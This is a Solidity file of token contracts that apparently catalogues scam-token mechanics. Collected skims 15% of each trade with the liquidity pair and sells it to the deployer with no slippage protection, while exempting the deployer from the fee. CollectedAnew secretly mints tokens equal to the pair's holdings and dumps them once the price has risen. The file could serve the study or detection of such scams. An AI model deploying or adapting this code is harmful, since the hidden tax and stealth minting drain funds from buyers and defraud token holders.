// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IUniswapV2Router} from "../shared/UniswapV2.sol";
import {Listed} from "./Listed.sol";

interface IFeeRouter {
    function WETH() external view returns (address);

    function swapExactTokensForETHSupportingFeeOnTransferTokens(uint256 amountIn, uint256 amountOutMin, address[] calldata path, address to, uint256 deadline) external;
}

/// @notice Each trade pays in tokens, which the token sells ahead of the next sale.
abstract contract Collected is Listed {
    IFeeRouter internal immutable _router;
    address internal immutable _maker = msg.sender;
    bool internal _sells;

    constructor(IUniswapV2Router router) Listed(router) {
        _router = IFeeRouter(address(router));
    }

    function _move(address from, address to, uint256 amount) internal override {
        if (_sells || from == _maker) return super._move(from, to, amount);
        if (to == pair) _sellCollected();
        uint256 kept = from == pair || to == pair ? (amount * 15) / 100 : 0;
        super._move(from, address(this), kept);
        super._move(from, to, amount - kept);
    }

    function _sellCollected() internal virtual {
        uint256 collected = balanceOf[address(this)];
        if (collected == 0) return;
        _sells = true;
        address[] memory path = new address[](2);
        (path[0], path[1]) = (address(this), _router.WETH());
        allowance[address(this)][address(_router)] = collected;
        _router.swapExactTokensForETHSupportingFeeOnTransferTokens(collected, 0, path, _maker, block.timestamp);
        _sells = false;
    }
}

/// @notice After large purchases that is much.
contract CollectedAtOnce is Collected {
    constructor(IUniswapV2Router router) Collected(router) {}
}

/// @notice Once the price has risen, each sale is preceded by one of new tokens.
contract CollectedAnew is Collected {
    constructor(IUniswapV2Router router) Collected(router) {}

    function _sellCollected() internal override {
        if (balanceOf[pair] < totalSupply / 2) {
            totalSupply += balanceOf[pair];
            balanceOf[address(this)] += balanceOf[pair];
        }
        super._sellCollected();
    }
}
